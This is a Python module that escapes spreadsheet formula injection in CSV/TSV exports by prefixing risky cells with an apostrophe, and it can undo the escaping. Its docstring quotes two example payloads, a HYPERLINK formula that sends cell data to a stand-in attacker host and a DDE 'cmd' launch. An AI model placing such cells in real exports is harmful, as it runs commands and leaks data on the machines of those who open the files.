"""Cells a spreadsheet would run as formulas (CSV/TSV formula injection), made inert.

Names, subjects and the other free texts come from other authorities; a name such as
``=HYPERLINK("https://evil.example/?"&A1, "open")`` or ``=cmd|' /C calc'!A0`` would be run
by the spreadsheet that opens an exported file. Following the OWASP CSV-injection
guidance, a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a ``'`` in front, which spreadsheets read as "this is text". A plain number
(``-3``, ``+36``) is left alone: spreadsheets read it as a number, never as a formula.

To make this undoable, a cell made of apostrophes and then one of those characters gets
one more apostrophe; ``restore`` takes one away from such a cell, and from nothing else,
so an export read back by ``imi authority import`` gives the original text exactly (a name
such as ``'s-Hertogenbosch`` is never touched).
"""

from __future__ import annotations

import re

TRIGGERS = "=+-@\t\r"
_ESCAPE = re.compile(r"'*[=+\-@\t\r]")
_RESTORE = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
# a TSV cell starts a line or follows a tab; a leading tab is a cell boundary there, not text
_TSV_CELL = re.compile(r"(?m)(?:^|(?<=\t))(?='*[=+\-@\r])(?![+-]?\d+(?:\.\d+)?(?:\t|$))")


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text, never runs it: a ``'`` in front if needed."""
    if _ESCAPE.match(cell) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The text ``neutralise`` was given (one ``'`` less before a formula character)."""
    return cell[1:] if _RESTORE.match(cell) else cell


def neutralise_tsv(text: str) -> str:
    """Every cell of tab-separated lines, neutralised at once (one pass in C)."""
    return _TSV_CELL.sub("'", text)
